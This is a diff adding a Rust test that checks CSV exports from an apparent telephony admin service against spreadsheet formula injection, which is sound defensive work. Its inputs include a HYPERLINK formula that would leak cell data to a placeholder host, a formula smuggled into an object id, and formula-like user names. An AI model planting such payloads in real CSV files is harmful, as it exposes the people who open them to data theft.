@@ -1,0 +1,90 @@
+//! The CSV files Conjure hands out, read as a spreadsheet reads them: no cell may start a formula.
+
+mod common;
+
+use common::{ADMIN, call, harness};
+
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Every cell of `text` as a spreadsheet splits it.
+fn cells(text: &str) -> Vec<String> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+        .collect()
+}
+
+fn assert_no_formula(what: &str, text: &str) {
+    for cell in cells(text) {
+        assert!(
+            !cell.starts_with(FORMULA_START),
+            "{what}: the cell {cell:?} would run as a formula\n{text}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn exports_carry_no_formulas() {
+    let h = harness().await;
+    let hyperlink = r#"=HYPERLINK("http://x/?"&B2)"#;
+    // A token's name is free text and lands in the audit log.
+    let r = call(
+        &h.app,
+        "POST",
+        "/api/tokens",
+        Some(ADMIN),
+        Some(&serde_json::json!({"name": hyperlink, "role": "viewer"}).to_string()),
+    )
+    .await;
+    assert_eq!(r.status, 201, "{}", r.text);
+    // An id with a separator and a formula in it.
+    let r = call(
+        &h.app,
+        "PUT",
+        "/api/objects/aor/2041;=1+1",
+        Some(ADMIN),
+        Some(r#"{"fields":[{"attribute":"max_contacts","value":"1"}]}"#),
+    )
+    .await;
+    assert_eq!(r.status, 200, "{}", r.text);
+    let audit = call(&h.app, "GET", "/api/audit.csv", Some(ADMIN), None)
+        .await
+        .text;
+    assert_no_formula("audit", &audit);
+    assert!(cells(&audit).contains(&format!("'{hyperlink}")), "{audit}");
+    assert!(cells(&audit).contains(&"2041;=1+1".to_string()), "{audit}");
+
+    // Phone users named like formulas, in the export and in an import's results.
+    let file = "extension,name\n4201,=1+2\n4202,@SUM(A1)\n4203,-Lena\n";
+    let started = call(&h.app, "POST", "/api/imports", Some(ADMIN), Some(file)).await;
+    assert_eq!(started.status, 202, "{}", started.text);
+    let id = started.json()["progress"]["id"].as_u64().unwrap();
+    call(
+        &h.app,
+        "GET",
+        &format!("/api/imports/{id}/events"),
+        Some(ADMIN),
+        None,
+    )
+    .await;
+    let results = call(
+        &h.app,
+        "GET",
+        &format!("/api/imports/{id}/results.csv"),
+        Some(ADMIN),
+        None,
+    )
+    .await
+    .text;
+    assert_no_formula("import results", &results);
+    let export = call(&h.app, "GET", "/api/phone-users.csv", Some(ADMIN), None)
+        .await
+        .text;
+    assert_no_formula("phone users", &export);
+    let names = cells(&export);
+    for name in ["'=1+2", "'@SUM(A1)", "'-Lena"] {
+        assert!(names.contains(&name.to_string()), "{name} in {export}");
+    }
+}
